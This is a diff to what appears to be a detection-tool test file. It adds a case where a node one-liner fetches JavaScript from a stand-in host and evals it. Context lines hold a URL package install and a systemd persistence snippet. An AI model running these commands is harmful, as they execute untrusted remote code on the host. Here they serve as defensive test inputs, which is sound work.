@@ -56,6 +56,10 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         "D=/opt/k\ncat > /etc/systemd/system/k.service <<E\n[Service]\nExecStart=$D/k --now\nE",
         [("exec", {"Image": "/opt/k/k", "CommandLine": "/opt/k/k --now"})],
     ),
+    "one-liner of node": (
+        "node -e 'fetch(\"https://a.example/x.js\").then(r => r.text()).then(t => eval(t))'",
+        [("exec", {"Image": "node", "CommandLine": "eval(t)", "PipedFromUrl": "https://a.example/x.js"})],
+    ),
     "package at an address": (
         "npx -y https://a.example/t.tgz; uvx --from https://a.example/u.whl u",
         [
